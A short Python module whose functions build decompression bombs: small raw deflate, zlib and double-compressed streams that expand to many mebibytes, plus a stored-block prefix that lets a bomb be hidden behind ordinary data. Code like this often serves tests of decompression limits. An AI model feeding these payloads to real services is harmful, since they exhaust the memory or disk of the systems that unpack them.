"""Compressed data that unpacks to more than anybody has."""

import zlib
from typing import Final

MIB: Final = 1024 * 1024


def raw_bomb(mebibytes: int, filling: bytes = b" ") -> bytes:
    """A raw deflate stream of so many MiB, made of one block over and over: a thousandth of it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(filling * (MIB // len(filling))) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * mebibytes + b"\x03\x00"


def zlib_bomb(mebibytes: int, filling: bytes = b" ") -> bytes:
    """The same with a zlib header; its checksum is missing, which readers forgive."""
    return b"\x78\xda" + raw_bomb(mebibytes, filling)


def zlib_bomb_in_bomb(mebibytes: int) -> bytes:
    """A bomb compressed once more: a few KiB."""
    return zlib.compress(zlib_bomb(mebibytes), 9)


def stored(data: bytes) -> bytes:
    """The beginning of a raw deflate stream: the data as it is; a bomb may follow."""
    size = len(data)
    return b"\0" + size.to_bytes(2, "little") + (size ^ 0xFFFF).to_bytes(2, "little") + data
